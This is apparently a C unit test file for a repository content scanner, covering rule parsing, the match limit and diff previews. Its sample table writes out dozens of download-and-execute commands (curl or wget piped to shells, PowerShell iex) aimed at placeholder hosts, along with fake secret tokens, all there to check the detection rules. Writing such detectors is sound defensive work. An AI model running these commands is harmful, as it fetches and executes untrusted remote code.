/* test_scan.c — the content scanner (api/core/scan.c): the rules-file parser (a good file, each
 * kind of bad line) and, for every rule of deploy/scan-rules, flagged and clean samples; a
 * rule without both fails the test. Also the match limit and the diff preview (lib/diff.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "lib/diff.h"
#include "lib/scan.h"

/* ---------- the parser ---------- */

static struct jb_scan_rules *parse_ok(const char *text) {
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  if (jb_scan_rules_parse(text, strlen(text), "t", &r, &err) < 0) fail_msg("refused: %s", err.msg);
  return r;
}

/* `text` must be refused with a message starting with `where` and containing `what`. */
static void parse_bad(const char *text, size_t len, const char *where, const char *what) {
  struct jb_scan_rules *r = (struct jb_scan_rules *)1;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_parse(text, len, "rules.txt", &r, &err), -1);
  assert_null(r);
  if (strncmp(err.msg, where, strlen(where)) || !strstr(err.msg, what))
    fail_msg("for %.80s: message '%s', wanted '%s…%s'", text, err.msg, where, what);
}
#define BAD(text, where, what) parse_bad(text, strlen(text), where, what)

static void parser_good_file(void **state) {
  (void)state;
  struct jb_scan_rules *r = parse_ok(
      "# a comment\n"
      "\n"
      "   # an indented comment\n"
      "first_rule   critical  content  BEGIN\\s+SECRET\r\n" /* CRLF line end */
      "\tsecond low path (?:^|/)\\.env$   \n" /* leading tab, trailing blanks */
      "third_1 medium builtin:binary 0\n"
      "fourth high content a b c"); /* no final newline; blanks inside the pattern are kept */
  assert_int_equal(jb_scan_rules_count(r), 4);
  assert_string_equal(jb_scan_rule_id(r, 0), "first_rule");
  assert_string_equal(jb_scan_rule_severity(r, 0), "critical");
  assert_int_equal(jb_scan_rule_check(r, 0), JB_SCAN_CONTENT);
  assert_string_equal(jb_scan_rule_id(r, 1), "second");
  assert_int_equal(jb_scan_rule_check(r, 1), JB_SCAN_PATH);
  assert_int_equal(jb_scan_rule_check(r, 2), JB_SCAN_BINARY);
  assert_null(jb_scan_rule_id(r, 4));
  json_t *f = jb_scan_run(r, "x", (const unsigned char *)"a b c", 5);
  assert_int_equal(json_array_size(f), 1);
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "rule")), "fourth");
  json_decref(f);
  f = jb_scan_run(r, "x", (const unsigned char *)"abc", 3);
  assert_int_equal(json_array_size(f), 0);
  json_decref(f);
  f = jb_scan_run(r, "d/.env", (const unsigned char *)"BEGIN \n SECRET", 14);
  assert_int_equal(json_array_size(f), 2);
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "rule")),
                      "first_rule");
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "severity")),
                      "critical");
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 1), "rule")), "second");
  json_t *ids = jb_scan_rule_ids(f);
  assert_int_equal(json_array_size(ids), 2);
  assert_string_equal(json_string_value(json_array_get(ids, 1)), "second");
  json_decref(ids);
  json_decref(f);
  /* threshold 0: one NUL byte is binary */
  f = jb_scan_run(r, "x", (const unsigned char *)"\0", 1);
  assert_int_equal(json_array_size(f), 1);
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "rule")), "third_1");
  json_decref(f);
  jb_scan_rules_free(r);
}

static void parser_bad_lines(void **state) {
  (void)state;
  BAD("ok high content x\nBad high content x\n", "rules.txt:2:", "rule id 'Bad'");
  BAD("\n\n9lives high content x\n", "rules.txt:3:", "is not [a-z][a-z0-9_]*");
  BAD("a-b high content x\n", "rules.txt:1:", "is not [a-z][a-z0-9_]*");
  char longid[200];
  memset(longid, 'a', 65);
  snprintf(longid + 65, sizeof longid - 65, " high content x\n");
  BAD(longid, "rules.txt:1:", "longer than 64");
  BAD("dup high content x\n# c\ndup low path y\n", "rules.txt:3:", "used twice");
  BAD("a severe content x\n", "rules.txt:1:", "unknown severity 'severe'");
  BAD("a\n", "rules.txt:1:", "severity missing");
  BAD("a high regex x\n", "rules.txt:1:", "unknown check 'regex'");
  BAD("a high builtin:path x\n", "rules.txt:1:", "unknown check 'builtin:path'");
  BAD("a high\n", "rules.txt:1:", "check missing");
  BAD("a high content\n", "rules.txt:1:", "pattern is missing");
  BAD("a high path   \n", "rules.txt:1:", "pattern is missing");
  BAD("a high content (unclosed\n", "rules.txt:1:", "bad pattern at offset");
  BAD("a high content x{2,1}\n", "rules.txt:1:", "bad pattern");
  BAD("a high content (*UTF)x\n", "rules.txt:1:", "bad pattern"); /* byte-oriented only */
  BAD("a high content x*\n", "rules.txt:1:", "matches the empty string");
  BAD("a high path ^\n", "rules.txt:1:", "matches the empty string");
  BAD("a high builtin:binary\n", "rules.txt:1:", "needs a threshold");
  BAD("a high builtin:binary many\n", "rules.txt:1:", "not a whole number");
  BAD("a high builtin:binary -1\n", "rules.txt:1:", "not a whole number");
  BAD("a high builtin:binary 1073741825\n", "rules.txt:1:", "not a whole number");
  BAD("a high builtin:binary 99999999999999999999999\n", "rules.txt:1:", "not a whole number");
  BAD("a high builtin:binary 10 20\n", "rules.txt:1:", "text after the threshold");
  BAD("# only comments\n\n", "rules.txt:", "no rules");
  BAD("", "rules.txt:", "no rules");
  parse_bad("a high content x\nb high content \0y\n", 33, "rules.txt:2:", "NUL byte");
  char *longline = malloc(JB_SCAN_LINE_MAX + 64);
  int n = snprintf(longline, 64, "ok high content x\na high content ");
  memset(longline + n, 'x', JB_SCAN_LINE_MAX);
  longline[n + JB_SCAN_LINE_MAX] = '\0';
  BAD(longline, "rules.txt:2:", "line longer than 4096");
  free(longline);
  char *huge = calloc(1, JB_SCAN_RULES_FILE_MAX + 2);
  memset(huge, '\n', JB_SCAN_RULES_FILE_MAX + 1);
  BAD(huge, "rules.txt:", "over 1048576 bytes");
  free(huge);
}

static void parser_files(void **state) {
  (void)state;
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load("/nonexistent/rules", &r, &err), -1);
  assert_non_null(strstr(err.msg, "/nonexistent/rules"));
  assert_int_equal(jb_scan_rules_load("/", &r, &err), -1);
  assert_non_null(strstr(err.msg, "not a regular file"));
  /* a FIFO nobody writes to is refused at once, not waited on (the start must not hang) */
  char fifo[] = "/tmp/jbscanfifo.XXXXXX";
  assert_non_null(mkdtemp(fifo));
  char fifo_path[64];
  snprintf(fifo_path, sizeof fifo_path, "%s/rules", fifo);
  assert_int_equal(mkfifo(fifo_path, 0600), 0);
  assert_int_equal(jb_scan_rules_load(fifo_path, &r, &err), -1);
  assert_non_null(strstr(err.msg, "not a regular file"));
  unlink(fifo_path);
  rmdir(fifo);
  char path[] = "/tmp/jbscan.XXXXXX";
  int fd = mkstemp(path);
  assert_true(fd >= 0);
  const char *bad = "good high content x\nbroken high content [\n";
  assert_int_equal(write(fd, bad, strlen(bad)), (ssize_t)strlen(bad));
  close(fd);
  assert_int_equal(jb_scan_rules_load(path, &r, &err), -1);
  char want[64];
  snprintf(want, sizeof want, "%s:2: bad pattern", path);
  if (strncmp(err.msg, want, strlen(want))) fail_msg("message '%s', wanted '%s…'", err.msg, want);
  fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
  assert_int_equal(write(fd, "one low content x\n", 18), 18);
  close(fd);
  assert_int_equal(jb_scan_rules_load(path, &r, &err), 0);
  assert_int_equal(jb_scan_rules_count(r), 1);
  jb_scan_rules_free(r);
  unlink(path);
  /* the embedded default is deploy/scan-rules and parses */
  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
  assert_true(jb_scan_rules_count(r) >= 10);
  jb_scan_rules_free(r);
}

/* ---------- every rule of deploy/scan-rules: flagged and clean samples ---------- */

struct sample {
  const char *rule; /* the rule the sample is for */
  bool flagged; /* true: `rule` must be among the findings; false: no finding at all */
  const char *path;
  const char *content; /* NUL-terminated text, or … */
  size_t (*make)(unsigned char *buf); /* … bytes made by this (buf holds 64 KiB) */
};

static size_t utf16_key(unsigned char *b) {
  const char *key = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n";
  size_t n = 0;
  for (const char *c = key; *c; c++) b[n++] = (unsigned char)*c, b[n++] = 0;
  return n;
}
static size_t utf16be_token(unsigned char *b) {
  const char *t = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  size_t n = 0;
  b[n++] = 0xfe, b[n++] = 0xff;
  for (const char *c = t; *c; c++) b[n++] = 0, b[n++] = (unsigned char)*c;
  return n;
}
static size_t zeros_9000(unsigned char *b) { return memset(b, 0, 9000), 9000; }
static size_t zeros_8192(unsigned char *b) { return memset(b, 0, 8192), 8192; }
static size_t text_20000(unsigned char *b) { return memset(b, 'x', 20000), 20000; }
static size_t elf_like(unsigned char *b) {
  memset(b, 0x90, 40000);
  memcpy(b,
         "\x7f"
         "ELF\2\1\1\0",
         8);
  return 40000;
}

static const struct sample samples[] = {
    {"private_key", true, "k", "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n", NULL},
    {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE KEY-----\n", NULL},
    {"private_key", true, "k", "-----BEGIN PRIVATE KEY-----\n", NULL},
    {"private_key", true, "k", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n", NULL},
    {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n",
     NULL}, /* split across lines */
    {"private_key", true, "k.txt", NULL, utf16_key}, /* UTF-16LE */
    {"private_key", true, "kubeconfig",
     "    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo=\n", NULL},
    {"private_key", true, "s.yaml", "tls.key: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUU=\n",
     NULL},
    {"private_key", true, "s.yaml", "k: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K\n", NULL},
    {"private_key", false, "kubeconfig",
     "certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=\n", NULL},
    {"private_key", false, "k.b64", "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K\n",
     NULL}, /* a public key */
    {"private_key", false, "k", "-----BEGIN PUBLIC KEY-----\n", NULL},
    {"private_key", false, "k", "a private key begins with BEGIN\n", NULL},
    {"aws_access_key_id", true, "c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", NULL},
    {"aws_access_key_id", true, "c", "ASIAY34FZKBOKMUTVV7A", NULL},
    {"aws_access_key_id", false, "c", "AKIAIOSFODNN7EXAMPL is too short\n", NULL},
    {"aws_access_key_id", false, "c", "XAKIAIOSFODNN7EXAMPLEX is inside a word\n", NULL},
    {"github_token", true, "c", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n", NULL},
    {"github_token", true, "c",
     "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN\n", NULL},
    {"github_token", true, "c.txt", NULL, utf16be_token}, /* UTF-16BE with a byte-order mark */
    {"github_token", false, "c", "ghp_tooshort\n", NULL},
    {"gitlab_token", true, "c", "glpat-abcdefghij0123456789\n", NULL},
    {"gitlab_token", false, "c", "glpat-short\n", NULL},
    {"slack_token", true, "c", "xoxb-1234567890-abcdefghij\n", NULL},
    {"slack_token", false, "c", "xoxz-1234567890-abcdefghij\n", NULL},
    {"google_api_key", true, "c", "key=AIzaSyA-1234567890abcdefghijklmnopqrstu\n", NULL},
    {"google_api_key", false, "c", "AIza is a prefix\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i.sh | sh\n", NULL},
    {"download_and_execute", true, "s.sh", "wget -qO- https://x.example/i | sudo bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i | /bin/sh\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i | sudo -E bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i | python3\n", NULL},
    {"download_and_execute", true, "s.sh", "bash <(curl -fsSL https://x.example/i)\n", NULL},
    {"download_and_execute", true, "s.sh", "sh -c \"$(curl -fsSL https://x.example/i)\"\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n",
     NULL},
    {"download_and_execute", true, "s.sh", "curl -o a https://x/a; curl https://x/b | zsh\n", NULL},
    {"download_and_execute", true, "s.sh", "curl https://x.example/wget.sh | sh\n", NULL},
    /* forms that went past an earlier pattern (breakscan) */
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh; echo done\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i|sh&&echo\n", NULL},
    {"download_and_execute", true, "s.sh", "(curl -fsSL https://x/i | sh)\n", NULL},
    {"download_and_execute", true, "s.sh", "x=`curl -fsSL https://x/i | sh`\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i \\\n  | bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i |& bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | tee /dev/stderr | sh\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | env bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sudo -u root bash\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | busybox sh\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | fish\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | php\n", NULL},
    {"download_and_execute", true, "s.sh", "eval \"$(curl -fsSL https://x/i)\"\n", NULL},
    {"download_and_execute", true, "s.sh", "source <(curl -fsSL https://x/i)\n", NULL},
    {"download_and_execute", true, "s.sh", ". <(wget -qO- https://x/i)\n", NULL},
    {"download_and_execute", true, "s.sh", "bash -c \"`curl -fsSL https://x/i`\"\n", NULL},
    {"download_and_execute", true, "s.sh", "sh -c '$(curl -fsSL https://x/i)'\n", NULL},
    {"download_and_execute", true, "s.sh", "bash <<< \"$(curl -fsSL https://x/i)\"\n", NULL},
    {"download_and_execute", true, "a.ps1", "irm https://x/i | iex\n", NULL},
    {"download_and_execute", true, "a.ps1",
     "IEX (New-Object Net.WebClient).DownloadString('https://x/i')\n", NULL},
    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh\r\n", NULL},
    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | grep -q bash\n", NULL},
    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | tee shell.log\n", NULL},
    {"download_and_execute", false, "s.sh", "version=$(curl -fsSL https://x/version)\n", NULL},
    {"download_and_execute", false, "s.sh", "echo \"$(curl -fsSL https://x/version)\"\n", NULL},
    {"download_and_execute", false, "s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL},
    {"download_and_execute", false, "s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL},
    {"download_and_execute", false, "s.sh",
     "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
    {"git_hooks", true, ".git/hooks/pre-commit", "#!/bin/sh\n", NULL},
    {"git_hooks", true, "sub/.git/hooks/post-checkout", "#!/bin/sh\n", NULL},
    {"git_hooks", true, ".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", NULL}, /* a submodule's */
    {"git_hooks", true, ".GIT/Hooks/pre-commit", "#!/bin/sh\n",
     NULL}, /* case-insensitive file systems */
    {"git_hooks", true, ".husky/pre-commit", "npm test\n", NULL},
    {"git_hooks", true, ".githooks/pre-push", "#!/bin/sh\n", NULL},
    {"git_config", true, ".git/config.worktree", "[core]\n\tfsmonitor = ./x\n", NULL},
    {"git_config", true, ".git/worktrees/w/config.worktree", "[core]\n", NULL},
    {"git_config", true, "sub/.git", "gitdir: ../not-a-repo\n", NULL}, /* a gitdir pointer file */
    {"git_config", true, ".Git/Config", "[core]\n", NULL},
    {"git_config", false, "sub/.gitignore", "*.o\n", NULL},
    /* what else git takes its config and hooks from, or runs: flagged */
    {"git_config", true, ".git/commondir", "../evil\n", NULL},
    {"git_config", true, ".git/worktrees/w/commondir", "../..\n", NULL},
    {"git_config", true, ".git/worktrees/w/gitdir", "/tmp/w/.git\n", NULL},
    {"git_config", true, ".git/modules/m/config", "[core]\n", NULL},
    {"git_config", true, ".git/objects/info/alternates", "/tmp/objects\n", NULL},
    {"git_config", true, ".git/rebase-merge/git-rebase-todo", "exec touch x\n", NULL},
    {"git_config", true, ".git/info/exclude", "x\n", NULL},
    /* the data git writes on its own as it commits, fetches or gc's: not flagged */
    {"git_config", false, ".git/objects/ab/cdef0123", "x\n", NULL},
    {"git_config", false, ".git/objects/info/packs", "P pack-1.pack\n", NULL},
    {"git_config", false, ".git/refs/heads/main", "0123\n", NULL},
    {"git_config", false, ".git/logs/HEAD", "0123\n", NULL},
    {"git_config", false, ".git/index", "DIRC\n", NULL},
    {"git_config", false, ".git/HEAD", "ref: refs/heads/main\n", NULL},
    {"git_config", false, ".git/packed-refs", "# pack-refs\n", NULL},
    {"git_config", false, ".git/COMMIT_EDITMSG", "msg\n", NULL},
    {"git_config", false, ".git/modules/m/refs/heads/x", "0123\n", NULL},
    {"git_config", false, ".git/worktrees/w/index", "DIRC\n", NULL},
    {"ci_definition", true, ".github/actions/setup/action.yml", "runs: {}\n", NULL},
    {"ci_definition", true, ".GitHub/Workflows/ci.yml", "on: push\n", NULL},
    {"ci_definition", true, ".drone.yml", "kind: pipeline\n", NULL},
    {"ci_definition", false, ".github/CODEOWNERS", "* @a\n", NULL},
    {"shell_startup", true, ".BASHRC", "x\n", NULL},
    {"shell_startup", true, ".bash_aliases", "alias ls='x'\n", NULL},
    {"shell_startup", true, ".bashrc.d/10-x.sh", "x\n", NULL},
    {"shell_startup", true, ".xsessionrc", "x\n", NULL},
    {"shell_startup", false, "docs/xsession.md", "x\n", NULL},
    {"shell_startup", true, ".config/fish/config.fish", "set x 1\n", NULL},
    {"shell_startup", true, ".config/fish/conf.d/z.fish", "set x 1\n", NULL},
    {"git_attributes", true, ".gitattributes", "*.c filter=x\n", NULL},
    {"git_attributes", true, "sub/.gitmodules", "[submodule \"m\"]\n", NULL},
    {"git_attributes", true, ".git/info/attributes", "* diff=x\n", NULL},
    {"git_attributes", false, ".gitignore", "*.o\n", NULL},
    {"git_attributes", false, "docs/gitattributes.md", "x\n", NULL},
    {"env_loader", true, ".envrc", "use nix\n", NULL},
    {"env_loader", true, "sub/.mise.toml", "[hooks]\n", NULL},
    {"env_loader", true, "mise.toml", "[env]\n", NULL},
    {"env_loader", false, ".env.example", "A=1\n", NULL},
    {"editor_config", true, ".vscode/tasks.json", "{}\n", NULL},
    {"editor_config", true, ".vscode/settings.json", "{}\n", NULL},
    {"editor_config", true, ".vscode/launch.json", "{}\n", NULL},
    {"editor_config", true, "app.code-workspace", "{}\n", NULL},
    {"editor_config", true, ".idea/workspace.xml", "<project/>\n", NULL},
    {"editor_config", true, ".run/test.run.xml", "<component/>\n", NULL},
    {"editor_config", true, ".devcontainer/devcontainer.json", "{}\n", NULL},
    {"editor_config", true, ".devcontainer.json", "{}\n", NULL},
    {"editor_config", false, ".vscode/extensions.json", "{}\n", NULL},
    {"editor_config", false, "src/idea.c", "x\n", NULL},
    {"package_manager_config", true, ".npmrc", "script-shell=/tmp/x\n", NULL},
    {"package_manager_config", true, ".yarnrc.yml", "yarnPath: x.js\n", NULL},
    {"package_manager_config", true, ".pnpmfile.cjs", "module.exports={}\n", NULL},
    {"package_manager_config", true, "pip.conf", "[global]\n", NULL},
    {"package_manager_config", true, ".cargo/config.toml", "[build]\n", NULL},
    {"package_manager_config", true, ".cargo/config", "[build]\n", NULL},
    {"package_manager_config", true, ".mvn/extensions.xml", "<extensions/>\n", NULL},
    {"package_manager_config", false, "package.json", "{}\n", NULL},
    {"package_manager_config", false, "Cargo.toml", "[package]\n", NULL},
    {"package_manager_config", false, "Makefile", "all:\n", NULL},
    {"git_bare_repository", true, "lib/HEAD", "ref: refs/heads/main\n", NULL},
    {"git_bare_repository", true, "HEAD", "ref: refs/heads/main\n", NULL},
    {"git_bare_repository", true, "bare/head", "ref: refs/heads/main\n", NULL},
    {"git_bare_repository", false, ".git/logs/HEAD", "0123\n", NULL},
    {"git_config", true, ".git/refs/replace/0123abcd", "4567\n", NULL},
    {"git_attributes", true, "r1/.gitconfig", "[core]\n", NULL},
    {"hook_manager", true, ".lintstagedrc.js", "module.exports = {}\n", NULL},
    {"hook_manager", true, "commitlint.config.js", "module.exports = {}\n", NULL},
    {"git_bare_repository", false, "sub/.git/modules/m/HEAD", "ref: refs/heads/x\n", NULL},
    {"git_bare_repository", false, "docs/HEADER.md", "x\n", NULL},
    {"python_startup", true, ".venv/lib/python3.11/site-packages/x.pth", "import os\n", NULL},
    {"python_startup", true, "env/lib/python3/dist-packages/sitecustomize.py", "x = 1\n", NULL},
    {"python_startup", false, ".venv/lib/python3.11/site-packages/x/__init__.py", "x = 1\n", NULL},
    {"hook_manager", true, ".pre-commit-config.yaml", "repos: []\n", NULL},
    {"hook_manager", true, "lefthook.yml", "pre-commit: {}\n", NULL},
    {"hook_manager", true, ".lefthook-local.yml", "pre-commit: {}\n", NULL},
    {"hook_manager", false, "docs/pre-commit.md", "x\n", NULL},
    {"git_hooks", false, ".git/HEAD", "ref: refs/heads/main\n", NULL},
    {"git_config", true, ".git/config", "[core]\n\thooksPath = scripts\n", NULL},
    {"git_config", true, "sub/.git/config", "[core]\n\tfsmonitor = ./x\n", NULL},
    {"git_config", true, ".git/modules/m/config", "[core]\n", NULL},
    {"git_config", false, "config", "[core]\n", NULL},
    {"git_config", true, ".git/config.d/notes", "x\n", NULL},
    {"git_hooks", false, "hooks/pre-commit", "#!/bin/sh\n", NULL},
    {"ci_definition", true, ".github/workflows/ci.yml", "on: push\n", NULL},
    {"ci_definition", true, "sub/.github/workflows/x.yaml", "on: push\n", NULL},
    {"ci_definition", true, ".gitlab-ci.yml", "stages: []\n", NULL},
    {"ci_definition", true, ".circleci/config.yml", "version: 2\n", NULL},
    {"ci_definition", true, "Jenkinsfile", "pipeline {}\n", NULL},
    {"ci_definition", true, "azure-pipelines.yml", "trigger: []\n", NULL},
    {"ci_definition", false, "docs/workflows.md", "on: push\n", NULL},
    {"ci_definition", false, "Jenkinsfile.md", "pipeline {}\n", NULL},
    {"shell_startup", true, ".bashrc", "alias ll='ls -l'\n", NULL},
    {"shell_startup", true, "sub/.profile", "PATH=$PATH\n", NULL},
    {"shell_startup", true, "home/.zshenv", "export X=1\n", NULL},
    {"shell_startup", false, "profile.txt", "PATH=$PATH\n", NULL},
    {"shell_startup", false, ".bashrc.bak/notes", "x\n", NULL},
    {"binary_content", true, "a.bin", NULL, zeros_9000},
    {"binary_content", true, "prog", NULL, elf_like},
    {"binary_content", false, "a.bin", NULL, zeros_8192}, /* at the threshold: not over it */
    {"binary_content", false, "a.txt", NULL, text_20000},
    {"any", false, "README.md", "# hello\nplain text\n", NULL},
};
#define N_SAMPLES (sizeof samples / sizeof samples[0])

static void check_sample(const struct jb_scan_rules *r, const struct sample *s,
                         unsigned char *buf) {
  size_t len = s->make ? s->make(buf) : strlen(s->content);
  const unsigned char *data = s->make ? buf : (const unsigned char *)s->content;
  json_t *f = jb_scan_run(r, s->path, data, len);
  assert_non_null(f);
  bool found = false;
  size_t i;
  json_t *v;
  json_array_foreach (f, i, v) {
    found = found || !strcmp(json_string_value(json_object_get(v, "rule")), s->rule);
    assert_null(json_object_get(v, "error")); /* no sample may reach a limit */
  }
  if (s->flagged && !found)
    fail_msg("rule %s did not flag %s: %.60s", s->rule, s->path,
             s->content ? s->content : "(bytes)");
  if (!s->flagged && json_array_size(f) != 0)
    fail_msg("clean sample for %s (%s: %.60s) flagged by %s", s->rule, s->path,
             s->content ? s->content : "(bytes)",
             json_string_value(json_object_get(json_array_get(f, 0), "rule")));
  json_decref(f);
}

static void every_rule_has_samples(void **state) {
  (void)state;
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
  for (size_t k = 0; k < jb_scan_rules_count(r); k++) {
    const char *id = jb_scan_rule_id(r, k);
    if (jb_scan_rule_check(r, k) == JB_SCAN_REDACT) continue; /* no write: test_redact.c */
    int flagged = 0, clean = 0;
    for (size_t i = 0; i < N_SAMPLES; i++)
      if (!strcmp(samples[i].rule, id)) samples[i].flagged ? flagged++ : clean++;
    if (!flagged || !clean)
      fail_msg(
          "rule %s of deploy/scan-rules has %d flagged and %d clean samples: add both to samples[]",
          id, flagged, clean);
  }
  /* and the other way: every sample names a rule that exists (or "any" for plain text) */
  for (size_t i = 0; i < N_SAMPLES; i++) {
    bool known = !strcmp(samples[i].rule, "any");
    for (size_t k = 0; k < jb_scan_rules_count(r) && !known; k++)
      known = !strcmp(samples[i].rule, jb_scan_rule_id(r, k));
    if (!known)
      fail_msg("sample %zu names rule %s, which deploy/scan-rules does not have", i,
               samples[i].rule);
  }
  jb_scan_rules_free(r);
}

static void samples_match(void **state) {
  (void)state;
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
  unsigned char *buf = malloc(65536);
  for (size_t i = 0; i < N_SAMPLES; i++) check_sample(r, &samples[i], buf);
  free(buf);
  jb_scan_rules_free(r);
  /* jb_scan_content uses the embedded rules too */
  json_t *f = jb_scan_content(".bashrc", (const unsigned char *)"x", 1);
  assert_int_equal(json_array_size(f), 1);
  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "severity")), "high");
  json_decref(f);
}

/* a pattern that backtracks catastrophically stops at the match limit: flagged, with a reason */
static void match_limit(void **state) {
  (void)state;
  struct jb_scan_rules *r = parse_ok("slow high content (a+)+$\nfast low content zzz\n");
  char s[64];
  memset(s, 'a', 48);
  s[48] = 'b';
  json_t *f = jb_scan_run(r, "x", (const unsigned char *)s, 49);
  assert_int_equal(json_array_size(f), 1);
  json_t *x = json_array_get(f, 0);
  assert_string_equal(json_string_value(json_object_get(x, "rule")), "slow");
  assert_string_equal(json_string_value(json_object_get(x, "error")), "match limit");
  json_decref(f);
  f = jb_scan_run(r, "x", (const unsigned char *)"aaa", 3); /* matches quickly */
  assert_int_equal(json_array_size(f), 1);
  assert_null(json_object_get(json_array_get(f, 0), "error"));
  json_decref(f);
  jb_scan_rules_free(r);
  /* the default rules on 1 MiB of a run of words that nearly match stay clean (no limit) */
  struct jb_scan_rules *d = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load(NULL, &d, &err), 0);
  size_t n = 1024 * 1024;
  char *big = malloc(n);
  static const char *const nearly[] = {"curl ",
                                       "curl -x cwcw ",
                                       "BEGIN ",
                                       "BEGIN RSA ",
                                       "AKIA",
                                       "ghp_",
                                       "sh <(",
                                       "xox",
                                       "curl | sudo a b c d e f g ",
                                       "curl -s \\\n",
                                       "eval \"$(",
                                       "sh -c -x ",
                                       "iwr a ",
                                       "iex (",
                                       "curl a|b",
                                       "| sudo a b c d e f g h ",
                                       " /a/a/a",
                                       "LS0tLS1CRUdJTi",
                                       NULL};
  for (size_t k = 0; nearly[k]; k++) {
    size_t w = strlen(nearly[k]), m = n - n % w;
    for (size_t i = 0; i + w <= m; i += w) memcpy(big + i, nearly[k], w);
    f = jb_scan_run(d, "x", (const unsigned char *)big, m);
    if (json_array_size(f) != 0) fail_msg("1 MiB of '%s' flagged: %s", nearly[k], json_dumps(f, 0));
    json_decref(f);
  }
  /* one line of 1 MiB after a curl, an eval or a shell with options: a pattern that keeps a
   * backtracking point per character would stop at the JIT stack or match limit (flagged) */
  static const char *const leads[] = {"curl ", "eval ", "sh ", "iwr ", NULL};
  static const char fills[] = {'a', '-', ' ', '\\'};
  for (size_t k = 0; leads[k]; k++)
    for (size_t j = 0; j < sizeof fills; j++) {
      size_t w = strlen(leads[k]);
      memcpy(big, leads[k], w);
      memset(big + w, fills[j], n - w);
      f = jb_scan_run(d, "x", (const unsigned char *)big, n);
      if (json_array_size(f) != 0)
        fail_msg("'%s' and 1 MiB of '%c' flagged: %s", leads[k], fills[j], json_dumps(f, 0));
      json_decref(f);
    }
  free(big);
  jb_scan_rules_free(d);
}

/* ---------- diff previews ---------- */

static void diff_preview(void **state) {
  (void)state;
  json_t *d = NULL;
  jb_error err = {0};
  const char *old = "one\ntwo\nthree\n", *neu = "one\n2\nthree\n";
  assert_int_equal(jb_diff_preview("a.txt", (const unsigned char *)old, strlen(old), true,
                                   (const unsigned char *)neu, strlen(neu), 65536, &d, &err),
                   0);
  const char *t = json_string_value(json_object_get(d, "text"));
  assert_non_null(t);
  assert_non_null(strstr(t, "--- a/a.txt\n+++ b/a.txt\n"));
  assert_non_null(strstr(t, "\n-two\n+2\n"));
  assert_string_equal(json_string_value(json_object_get(d, "format")), "unified");
  assert_false(json_is_true(json_object_get(d, "truncated")));
  assert_int_equal(json_integer_value(json_object_get(d, "bytes")), strlen(t));
  json_decref(d);
  /* a new file */
  assert_int_equal(
      jb_diff_preview("n.txt", NULL, 0, false, (const unsigned char *)"hi\n", 3, 65536, &d, &err),
      0);
  t = json_string_value(json_object_get(d, "text"));
  assert_non_null(strstr(t, "--- /dev/null\n"));
  assert_non_null(strstr(t, "+hi\n"));
  json_decref(d);
  /* binary on either side, and previews switched off: null */
  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"a\0b", 3, true,
                                   (const unsigned char *)"x", 1, 65536, &d, &err),
                   0);
  assert_true(json_is_null(d));
  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true,
